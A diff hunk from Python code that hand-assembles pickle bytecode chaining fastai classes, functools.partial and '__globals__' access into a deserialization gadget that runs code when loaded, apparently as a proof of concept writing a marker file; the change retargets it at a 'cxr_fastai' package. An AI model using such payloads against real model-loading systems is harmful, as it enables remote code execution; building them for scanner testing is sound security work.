@@ -74,7 +74,7 @@ def delegated_globals(good: bytes, marker: Path) -> bytes:
         '_fields': b']' + text('__globals__') + b'a',
     }
     state = b'}' + b''.join(text(name) + value + b's' for name, value in attributes.items())
-    delegate = named('fastai.data.core', 'DataLoaders') + b')\x81' + state + b'b'
+    delegate = named('cxr_fastai.data.loaders', 'CXRDataLoaders') + b')\x81' + state + b'b'
     readers = [called(named('fastai.data.transforms', 'ColReader'), text(name)) for name in GLOBALS_TO_EXEC]
     code = b']' + text(order(marker)) + b'a'
     run = called(named('functools', 'partial'), named('fastai.data.core', 'TfmdLists'), code)
